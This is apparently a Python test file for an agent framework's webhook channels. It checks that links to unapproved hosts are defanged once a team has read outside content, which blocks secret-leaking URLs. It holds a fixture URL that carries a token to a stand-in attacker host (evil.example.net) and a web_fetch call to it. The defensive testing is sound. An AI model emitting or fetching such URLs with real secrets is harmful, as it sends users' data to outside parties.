"""Links on channels: what a labelled thread writes makes no program open an address."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from agiraph.core.domain.persons import OWNER
from agiraph.core.services.lifecycle import answers
from agiraph.core.services.lifecycle.teams import NewTeam
from agiraph.features.channels.kinds.webhook import Webhook
from agiraph.testing import Call, World, call, says
from agiraph.web.access import Web
from agiraph.web.fetch import Fetcher
from tests.runtime.receivers import WebhookServer
from tests.tools.strangers import READ, strange_world

SECRET = "token-4711"
LEAK = f"https://evil.example.net/?q={SECRET}"
BROKEN = f"https[:]//evil[.]example[.]net/?q={SECRET}"


@asynccontextmanager
async def channel(path: Path, database_url: str) -> AsyncIterator[tuple[World, WebhookServer]]:
    web = WebhookServer()
    async with (
        web.open(),
        strange_world(
            path,
            database_url,
            features={"channels": {"hook": Webhook(url=web.url)}},
            web=Web(fetcher=Fetcher()),
        ) as world,
    ):
        yield world, web


async def finish(world: World, goal: str, *calls: Call, said: str) -> NewTeam:
    """Let a coordinator make these calls and end with these words; return its team."""
    world.script("ada", *(says(one) for one in calls), says(call("finish", summary=said)))
    founded = await world.found(goal)
    await world.settle()
    return founded


def texts(web: WebhookServer, kind: str = "result") -> list[str]:
    return [post.body["text"] for post in web.posts if post.body["kind"] == kind]


@pytest.mark.parametrize("calls", [[], [READ]])
async def test_only_a_clean_message_keeps_links_to_hosts_that_nobody_allowed(
    tmp_path: Path, database_url: str, calls: list[Call]
) -> None:
    async with channel(tmp_path, database_url) as (world, web):
        await finish(world, "Look", *calls, said=f"See {LEAK} and www.evil.example.net/x.")
    kept = f"See {LEAK} and www.evil.example.net/x."
    broken = f"See {BROKEN} and www[.]evil[.]example[.]net/x."
    [text] = texts(web)
    assert text.partition("\n")[0] == (broken if calls else kept)
    assert (LEAK in text) == (not calls)


async def test_granted_hosts_and_what_a_person_wrote_stay_links(
    tmp_path: Path, database_url: str
) -> None:
    page, other = "https://example.com/page", f"https://example.com/{SECRET}"
    said = f"[docs](https://docs.example.org/a), https://api.example.net/b, {page}, {other}"
    async with channel(tmp_path, database_url) as (world, web):
        await world.store.write(
            answers.make_grant,
            kind="read",
            pattern="docs.example.org",
            person_id=OWNER,
            team_id=None,
        )
        # The page that was read is of a host whose address the person wrote: it may be behind the
        # words, so only the address itself stays.
        goal = f"Compare {page} with https://api.example.net/"
        await finish(world, goal, READ, said=said)
    [text] = texts(web)
    assert text.startswith(said.replace(other, f"https[:]//example[.]com/{SECRET}"))


async def test_the_call_of_a_request_opens_nothing_either(
    tmp_path: Path, database_url: str
) -> None:
    async with channel(tmp_path, database_url) as (world, web):
        fetch = call("web_fetch", url=LEAK)
        # The second call waits for the person, so channels hear of the request.
        founded = await finish(world, "Read it", READ, fetch, fetch, said="Done.")
        [stored] = await world.questions(founded.team.id)
    [asked] = [post.body for post in web.posts if post.body["kind"] == "approval"]
    assert asked["call"]["arguments"]["url"] == BROKEN
    assert LEAK not in str(asked)
    assert stored.call is not None
    assert stored.call.arguments["url"] == LEAK
